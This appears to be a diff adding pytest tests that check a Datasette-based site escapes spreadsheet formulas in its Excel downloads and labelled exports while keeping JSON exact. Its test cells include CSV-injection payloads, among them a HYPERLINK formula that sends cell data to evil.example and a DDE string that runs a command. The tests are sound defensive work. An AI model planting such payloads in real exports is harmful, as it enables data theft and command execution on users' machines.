@@ -4,7 +4,9 @@ built-in one, formulas in Excel downloads, and a PDF replaced by a symlink leadi
 from __future__ import annotations
 
 import asyncio
+import csv
 import hashlib
+import io
 import os
 import re
 import shutil
@@ -16,7 +18,7 @@ from pathlib import Path
 from urllib.parse import quote
 
 import pytest
-from conftest import ROOT, SAMPLE_PDF, free_port
+from conftest import ROOT, SAMPLE_PDF, free_port, run_hyoka
 
 from extract.site.metadata import QUERIES
 from extract.site.serve import make_datasette
@@ -138,6 +140,64 @@ def test_serve_names_each_shadowing_layout_query_in_one_line(hostile) -> None:
         "layout evil: query downgrades not served (a built-in query has that name)",
         "layout evil: query evaluations not served (a table or view has that name)",
     ], lines
+
+
+# -- 7. formulas in Excel downloads -------------------------------------------------------
+CELLS = {  # text as stored -> as the Excel download writes it
+    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "-3": "-3",  # reads as the number it is, in any column: no formula
+    "防災 = 安全": "防災 = 安全",
+    "": "",
+}
+
+
+@pytest.fixture(scope="module")
+def formulas(built_db, tmp_path_factory) -> Path:
+    """A copy of the built database with a table of cells Excel would take for formulas."""
+    db = tmp_path_factory.mktemp("formulas") / "hyoka.db"
+    shutil.copy(built_db, db)
+    with sqlite3.connect(db) as conn:
+        conn.execute("create table cells (id integer primary key, text text, number integer)")
+        conn.executemany("insert into cells (text, number) values (?, -3)", [(t,) for t in CELLS])
+        conn.execute("update evaluations set department = '=1+1' where id = 1")
+    conn.close()
+    return db
+
+
+def _csv(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+def test_the_excel_download_escapes_formulas(formulas) -> None:
+    ds = make_datasette(formulas, None)
+    rows = _csv(get(ds, "/-/excel/hyoka/cells.csv").text)
+    assert [(r[1], r[2]) for r in rows[1:]] == [(v, "-3") for v in CELLS.values()]
+    dept = _csv(get(ds, "/-/excel/hyoka/evaluation_rows.csv", id="1").text)
+    assert dept[1][dept[0].index("担当課")] == "'=1+1"
+    query = _csv(get(ds, "/-/excel/hyoka.csv", sql="select '@x' as \"=h\", -3 as n").text)
+    assert query == [["'=h", "n"], ["'@x", "-3"]]
+
+
+def test_the_json_keeps_every_value_exact(formulas) -> None:
+    ds = make_datasette(formulas, None)
+    rows = get(ds, "/hyoka/cells.json", _shape="array", _size="max").json()
+    assert [r["text"] for r in rows] == list(CELLS) and {r["number"] for r in rows} == {-3}
+
+
+def test_export_labels_escapes_formulas_and_plain_export_keeps_them(formulas, tmp_path) -> None:
+    for name, flags in (("labelled", ["--labels"]), ("plain", [])):
+        done = run_hyoka(
+            "export", "--db", str(formulas), "--table", "cells", "-o", str(tmp_path / name), *flags
+        )
+        assert done.returncode == 0, done.stderr
+    labelled, plain = (_csv((tmp_path / n).read_bytes().decode()) for n in ("labelled", "plain"))
+    assert [(r[1], r[2]) for r in labelled[1:]] == [(v, "-3") for v in CELLS.values()]
+    assert [r[1] for r in plain[1:]] == list(CELLS)
 
 
 # -- 8. /pdfs/ and symlinks -------------------------------------------------------------------
